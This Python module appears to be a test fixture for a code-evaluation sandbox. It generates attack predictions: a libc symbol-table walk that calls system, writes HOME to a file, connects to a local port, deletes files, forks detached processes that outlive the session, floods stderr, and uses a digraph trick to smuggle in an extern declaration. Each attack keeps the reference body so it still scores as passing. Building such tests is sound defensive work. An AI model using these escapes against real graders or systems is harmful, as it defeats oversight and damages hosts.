"""Predictions that attack the evaluator, made from a row's reference function (the issue's attacks, as written by
a user who tried them). Each keeps the reference's body after the attack, so it would also be scored functional.

The C++ finds libc functions with no declaration, no macro and no ``extern``: from ``&printf`` (which Warp's CPU
header declares) down to libc's ELF header, then through its dynamic symbol table.
"""

from __future__ import annotations

FIND_LIBC = r"""
    typedef unsigned long long u64;
    typedef unsigned char u8;
    typedef int I;  // the module defines a function-like macro int(x): never write int followed by (
    u64 wcir_page = ((u64)(void*)&printf) & ~(u64)0xfff;
    while (!(((u8*)wcir_page)[0] == 0x7f && ((u8*)wcir_page)[1] == 'E' && ((u8*)wcir_page)[2] == 'L'))
        wcir_page -= 0x1000;
    u8* wcir_base = (u8*)wcir_page;
    u64 wcir_dyn = 0;
    for (int i = 0; i < *(unsigned short*)(wcir_base + 56); ++i) {
        u8* ph = wcir_base + *(u64*)(wcir_base + 32) + 56 * i;
        if (*(unsigned int*)ph == 2) wcir_dyn = *(u64*)(ph + 16);
    }
    u64 wcir_sym = 0, wcir_str = 0;
    for (u64* d = (u64*)(wcir_base + wcir_dyn); d[0]; d += 2) {
        if (d[0] == 6) wcir_sym = d[1] < (u64)wcir_base ? d[1] + (u64)wcir_base : d[1];
        if (d[0] == 5) wcir_str = d[1] < (u64)wcir_base ? d[1] + (u64)wcir_base : d[1];
    }
    auto libc = [&](const char* name) -> void* {
        for (u8* s = (u8*)wcir_sym; s < (u8*)wcir_str; s += 24) {
            const char* n = (const char*)(wcir_str + *(unsigned int*)s);
            int k = 0;
            while (name[k] && n[k] == name[k]) ++k;
            if (!name[k] && !n[k] && *(u64*)(s + 8)) return wcir_base + *(u64*)(s + 8);
        }
        return (void*)0;
    };
"""


def _inject(ir: str, code: str) -> str:
    n = ir.index("{\n") + 2
    return ir[:n] + "    {\n" + code + "    }\n" + ir[n:]


def _c(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'


def libc_walk(ir: str, outside: str, port: int) -> str:
    """Runs ``system`` to write ``outside/system``, writes HOME and PATH to ``outside/env``, sends a line to
    127.0.0.1:``port`` and deletes ``outside/victim``: everything the sandbox must stop."""
    code = (
        FIND_LIBC
        + f"""
    ((I (*)(const char*))libc("system"))({_c(f"echo pwned > {outside}/system")});
    void* f = ((void* (*)(const char*, const char*))libc("fopen"))({_c(f"{outside}/env")}, "w");
    if (f) {{
        const char* home = ((const char* (*)(const char*))libc("getenv"))("HOME");
        ((I (*)(const char*, void*))libc("fputs"))(home ? home : "no HOME", f);
        ((I (*)(void*))libc("fclose"))(f);
    }}
    int fd = ((I (*)(int, int, int))libc("socket"))(2, 1, 0);
    unsigned char sa[16] = {{2, 0, {port >> 8}, {port & 0xFF}, 127, 0, 0, 1}};
    if (((I (*)(int, const void*, unsigned int))libc("connect"))(fd, sa, 16) == 0)
        ((long (*)(int, const void*, unsigned long))libc("write"))(fd, "pwned\\n", 6);
    ((I (*)(const char*))libc("unlink"))({_c(f"{outside}/victim")});
"""
    )
    return _inject(ir, code)


def setsid_sleepers(ir: str, name: str) -> str:
    """Forks three children that leave the session (``setsid``), rename themselves ``name`` and sleep 10 min."""
    code = (
        FIND_LIBC
        + f"""
    for (int i = 0; i < 3; ++i) {{
        if (((I (*)())libc("fork"))() == 0) {{
            ((I (*)())libc("setsid"))();
            ((I (*)(int, const char*, long, long, long))libc("prctl"))(15, {_c(name)}, 0, 0, 0);
            ((unsigned (*)(unsigned))libc("sleep"))(600);
            ((void (*)(int))libc("_exit"))(0);
        }}
    }}
"""
    )
    return _inject(ir, code)


def stderr_flood(ir: str, megabytes: int = 200) -> str:
    """Writes ``megabytes`` MB to file descriptor 2."""
    code = (
        FIND_LIBC
        + f"""
    static char wcir_buf[1 << 20];
    for (int i = 0; i < (1 << 20); ++i) wcir_buf[i] = 'x';
    for (int i = 0; i < {megabytes}; ++i)
        ((long (*)(int, const void*, unsigned long))libc("write"))(2, wcir_buf, sizeof(wcir_buf));
"""
    )
    return _inject(ir, code)


def digraph_extern(ir: str, outside: str) -> str:
    """The issue's digraph attack: ``%:define`` a macro for ``extern``, close the body with ``%>`` to declare
    ``system`` outside it, reopen with ``<%`` and call it."""
    n = ir.index("{\n") + 2
    attack = (
        "%:define E(x) extern x\n"
        "%>\n"
        'E("C") int system(const char*);\n'
        "static void wcir_reopen() <%\n"
        f"    system({_c(f'touch {outside}/digraph')});\n"
    )
    return ir[:n] + attack + ir[n:]
